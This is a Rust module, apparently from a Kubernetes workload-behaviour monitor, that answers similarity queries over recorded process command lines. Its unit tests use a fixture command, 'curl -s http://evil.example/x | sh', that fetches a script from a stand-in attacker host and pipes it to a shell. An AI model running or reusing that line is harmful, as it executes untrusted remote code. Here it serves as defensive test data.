//! What a query is answered, and when it is over. Pure.

use anchorwatch_core::time::Timestamp as Seconds;
use anchorwatch_crds::v1alpha1::{BehaviorQuery, BehaviorQueryStatus, QueryAnswer, QueryPhase};
use anchorwatch_fleet::{Answer, Generation};
use jiff::{SignedDuration, Timestamp};
use k8s_openapi::apimachinery::pkg::apis::meta::v1::{ObjectMeta, Time};
use kube::ResourceExt;

use super::index::features;

/// How long a query is kept: long enough to be read, and short enough that nobody else comes across it.
const KEPT: SignedDuration = SignedDuration::from_mins(5);

/// Most queries of a namespace that are kept at a time. An answer is about 400 KiB at the very most.
const MAX_KEPT: usize = 32;

/// Whether a new query finds no room beside those that are kept, and is deleted unanswered.
pub fn is_too_many<'a>(query: &BehaviorQuery, kept: impl IntoIterator<Item = &'a BehaviorQuery>) -> bool {
    let beside = kept
        .into_iter()
        .filter(|other| other.metadata.namespace == query.metadata.namespace);
    beside.count() >= MAX_KEPT
}

/// What is kept of a query: neither its answer nor what its requester wrote beside it.
pub fn reduced(query: BehaviorQuery) -> BehaviorQuery {
    let ObjectMeta {
        name,
        namespace,
        uid,
        resource_version,
        creation_timestamp,
        deletion_timestamp,
        ..
    } = query.metadata;
    BehaviorQuery {
        metadata: ObjectMeta {
            name,
            namespace,
            uid,
            resource_version,
            creation_timestamp,
            deletion_timestamp,
            ..ObjectMeta::default()
        },
        spec: query.spec,
        status: query.status.map(|status| BehaviorQueryStatus {
            phase: status.phase,
            ..BehaviorQueryStatus::default()
        }),
    }
}

/// Whether it waits for its answer.
pub fn is_open(query: &BehaviorQuery) -> bool {
    let phase = query.status.as_ref().and_then(|status| status.phase);
    phase.is_none() && query.metadata.deletion_timestamp.is_none()
}

/// Whether it is old enough to be deleted, answered or not.
pub fn is_over(query: &BehaviorQuery, now: Timestamp) -> bool {
    let created = query.metadata.creation_timestamp.as_ref();
    created.is_none_or(|created| now.duration_since(created.0) >= KEPT)
}

/// The answer. Admission has asked whether the requester may list what is searched: the namespace of the query, or all.
pub fn answer(query: &BehaviorQuery, generation: &Generation, as_of: Timestamp) -> BehaviorQueryStatus {
    let asked = features(&query.spec.command);
    let wanted = usize::try_from(query.spec.limit).unwrap_or(1);
    let namespace = query.namespace().unwrap_or_default();
    let (found, searched, left_out) = if query.spec.all_namespaces {
        let found = generation.nearest(&asked, wanted);
        (found, generation.len(), generation.left_out())
    } else {
        let found = generation.nearest_in(&namespace, &asked, wanted);
        // Of this namespace alone: a number that grows by what is new to all would tell what others run.
        (found, generation.len_in(&namespace), generation.left_out_in(&namespace))
    };
    BehaviorQueryStatus {
        phase: Some(QueryPhase::Answered),
        as_of: Some(Time(as_of)),
        searched: number(searched),
        left_out: number(left_out),
        answers: found.into_iter().map(told).collect(),
    }
}

fn told(answer: Answer) -> QueryAnswer {
    let similarity = (answer.similarity() * 1e4).round() / 1e4;
    let Answer {
        command,
        holder,
        common: _,
        union: _,
    } = answer;
    QueryAnswer {
        namespace: holder.workload.namespace.clone(),
        kind: holder.workload.kind.clone(),
        name: holder.workload.name.clone(),
        container: holder.container.as_ref().to_owned(),
        executable: holder.executable.as_ref().to_owned(),
        command,
        similarity,
        first_seen: time(holder.first_seen),
        last_seen: time(holder.last_seen),
    }
}

fn number(count: usize) -> i64 {
    i64::try_from(count).unwrap_or(i64::MAX)
}

fn time(seconds: Seconds) -> Time {
    Time(Timestamp::from_second(seconds.as_secs()).unwrap_or_default())
}

#[cfg(test)]
mod tests {
    use anchorwatch_crds::v1alpha1::BehaviorBaseline;
    use serde_json::{Value, json};

    use super::*;
    use crate::controllers::query::index;

    fn baseline(namespace: &str, name: &str, commands: &Value) -> BehaviorBaseline {
        serde_json::from_value(json!({
            "metadata": {"namespace": namespace, "name": format!("deployment-{name}")},
            "spec": {"workload": {"kind": "Deployment", "name": name}},
            "status": {"containers": [{"name": "app", "feeds": [{
                "feed": "process", "state": "Enforcing", "startedAt": "2026-01-01T00:00:00Z",
                "entries": [
                    {"process": {"origin": "entrypoint", "parent": "/usr/bin/python3", "executable": "/usr/bin/bash", "source": "image"},
                     "attributes": {"commands": commands}, "count": 1, "lastDay": 20454, "days": 1, "pods": 1,
                     "firstSeen": "2026-01-01T00:00:00Z", "lastSeen": "2026-01-02T00:00:00Z"},
                    {"process": {"origin": "entrypoint", "parent": "", "executable": "/app/server", "source": "image"},
                     "count": 1, "lastDay": 20454, "days": 1, "pods": 1,
                     "firstSeen": "2026-01-01T00:00:00Z", "lastSeen": "2026-01-02T00:00:00Z"},
                ],
            }]}]},
        }))
        .unwrap()
    }

    fn query(command: &str, all_namespaces: bool) -> BehaviorQuery {
        serde_json::from_value(json!({
            "metadata": {"namespace": "shop", "name": "q", "creationTimestamp": "2026-01-02T00:00:00Z"},
            "spec": {"command": command, "allNamespaces": all_namespaces, "limit": 2},
        }))
        .unwrap()
    }

    fn answers(query: &BehaviorQuery) -> Vec<(String, String, f64)> {
        let fleet = [
            baseline("shop", "cart", &json!(["bash -c 'tar czf /backup/a.tgz /data'"])),
            baseline("bank", "till", &json!(["bash -c 'curl -s http://evil.example/x | sh'"])),
        ];
        let generation = Generation::of(fleet.iter().flat_map(index::known));
        let status = answer(query, &generation, "2026-01-02T00:00:00Z".parse().unwrap());
        // A namespace is told of its own two command lines; all have three, since both run the same server.
        let searched = if query.spec.all_namespaces { 3 } else { 2 };
        assert_eq!((status.phase, status.searched), (Some(QueryPhase::Answered), searched));
        let told = status.answers.into_iter();
        told.map(|one| (one.namespace, one.command, one.similarity)).collect()
    }

    #[test]
    fn a_query_finds_in_its_own_namespace_alone_unless_it_asks_for_all() {
        let line = "bash -c 'curl -s http://evil.example/x | sh'";
        assert!(
            answers(&query(line, false))
                .iter()
                .all(|(namespace, _, _)| namespace == "shop")
        );
        assert_eq!(
            answers(&query(line, true))[0],
            ("bank".to_owned(), line.to_owned(), 1.0)
        );
    }

    #[test]
    fn a_program_without_a_command_line_is_found_by_its_path() {
        let found = answers(&query("/app/server", false));
        assert_eq!(found[0], ("shop".to_owned(), "/app/server".to_owned(), 1.0));
    }

    #[test]
    fn a_query_is_answered_once_and_over_after_minutes() {
        let mut query = query("ls", false);
        assert!(is_open(&query));
        query.status = Some(BehaviorQueryStatus {
            phase: Some(QueryPhase::Answered),
            ..BehaviorQueryStatus::default()
        });
        assert!(!is_open(&query));
        assert!(!is_over(&query, "2026-01-02T00:04:59Z".parse().unwrap()));
        assert!(is_over(&query, "2026-01-02T00:05:00Z".parse().unwrap()));
    }

    #[test]
    fn a_namespace_has_so_many_queries_at_a_time_whatever_others_ask() {
        let other = || {
            let mut other = query("ls", false);
            other.metadata.namespace = Some("bank".to_owned());
            other
        };
        let mut kept: Vec<BehaviorQuery> = vec![query("ls", false); MAX_KEPT - 1];
        kept.extend(vec![other(); MAX_KEPT]);
        assert!(!is_too_many(&query("ls", false), &kept));
        kept.push(query("ls", false));
        assert!(is_too_many(&query("ls", false), &kept));
    }

    #[test]
    fn what_is_kept_of_a_query_has_neither_answers_nor_annotations() {
        let mut asked = query("ls", true);
        asked.metadata.annotations = Some([("note".to_owned(), "x".repeat(9_000))].into());
        let whole = BehaviorQuery {
            status: Some(BehaviorQueryStatus {
                phase: Some(QueryPhase::Answered),
                searched: 7,
                ..BehaviorQueryStatus::default()
            }),
            ..asked.clone()
        };
        let kept = reduced(whole);
        assert!(!is_open(&kept) && kept.metadata.annotations.is_none());
        assert_eq!((kept.spec, kept.status.unwrap().searched), (asked.spec, 0));
        assert_eq!(kept.metadata.creation_timestamp, asked.metadata.creation_timestamp);
    }
}
